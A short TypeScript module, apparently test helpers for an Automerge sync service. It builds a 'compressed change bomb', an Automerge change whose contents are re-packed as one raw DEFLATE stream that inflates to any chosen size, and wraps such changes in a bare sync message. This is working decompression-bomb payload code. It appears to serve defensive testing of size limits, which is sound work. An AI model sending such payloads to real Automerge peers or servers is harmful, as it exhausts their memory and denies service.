import * as A from "@automerge/automerge";
import { deflateRawSync } from "node:zlib";

/** How an attacker builds a bomb: an honest-looking Automerge change whose contents are re-packed as one raw DEFLATE stream. */
export function compressedChangeBomb(inflatedBytes: number): Uint8Array {
  const doc = A.change(A.from<{ s?: A.ImmutableString }>({}), (d) => {
    d.s = new A.ImmutableString("x".repeat(inflatedBytes));
  });
  const change = A.getLastLocalChange(doc)!;
  let at = 9;
  let length = 0;
  for (let scale = 1; ; scale *= 128) {
    const byte = change[at++]!;
    length += (byte & 0x7f) * scale;
    if ((byte & 0x80) === 0) break;
  }
  const packed = deflateRawSync(change.subarray(at, at + length), { level: 9 });
  return new Uint8Array([...change.subarray(0, 8), 2, ...uleb(packed.length), ...packed]);
}

export const uleb = (value: number): number[] => {
  const out: number[] = [];
  do {
    let byte = value & 0x7f;
    value = Math.floor(value / 128);
    if (value > 0) byte |= 0x80;
    out.push(byte);
  } while (value > 0);
  return out;
};

/** A 0x42 sync message with no heads, needs or haves, carrying these changes. */
export const syncMessageCarrying = (changes: readonly Uint8Array[]): Uint8Array =>
  new Uint8Array([0x42, 0, 0, 0, ...uleb(changes.length), ...changes.flatMap((change) => [...uleb(change.length), ...change])]);
